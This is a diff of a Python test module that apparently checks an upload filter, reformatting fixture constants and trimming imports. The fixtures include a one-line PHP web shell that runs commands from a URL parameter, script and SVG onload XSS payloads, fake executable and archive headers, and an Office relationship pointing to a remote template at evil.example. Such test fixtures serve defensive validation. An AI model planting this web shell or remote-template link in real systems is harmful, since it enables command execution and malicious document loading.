@@ -12,11 +12,16 @@ import pikepdf
 from PIL import Image
 
 from tests.uploads import sound
-from tests.uploads.sound import DECLARED, SOUND, TEXT, box, docx, film, jpeg, letter, png, saved, xlsx
+from tests.uploads.sound import DECLARED, SOUND, box, docx, film, jpeg, letter, png, xlsx
 
 PHP, PAGE = b"<?php system($_GET['c']); ?>", b"<!doctype html><html><script>alert(1)</script></html>"
 SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
-EXE, GZIP, RAR, SEVEN = b"MZ\x90\0" + bytes(200), b"\x1f\x8b\x08" + bytes(60), b"Rar!\x1a\7\0" + bytes(60), b"7z\xbc\xaf'\x1c" + bytes(60)
+EXE, GZIP, RAR, SEVEN = (
+    b"MZ\x90\0" + bytes(200),
+    b"\x1f\x8b\x08" + bytes(60),
+    b"Rar!\x1a\7\0" + bytes(60),
+    b"7z\xbc\xaf'\x1c" + bytes(60),
+)
 
 
 @dataclass(frozen=True)
@@ -255,7 +260,9 @@ def attachment(name: str, kind: str, body: bytes) -> Trick:
 
 OFFICE, PICTURES, ALL_PDF = ("docx", "xlsx", "eml"), ("jpg", "png", "mp3"), ("plain", "packed", "kept")
 ZIPS, TEXTS, ALL_EML = ("docx", "xlsx", "unknown"), ("plain", "spaced", "marked"), ("plain", "upper", "long")
-OUTSIDE = '<Relationships><Relationship Id="r1" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+OUTSIDE = (
+    '<Relationships><Relationship Id="r1" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
 TRICKS: dict[str, tuple[Trick, tuple[str, ...]]] = {
     "sound paper or picture": (as_is(), ("pdf", "jpg", "png")),
     "sound film": (as_is(), ("heic", "mp4", "mov")),
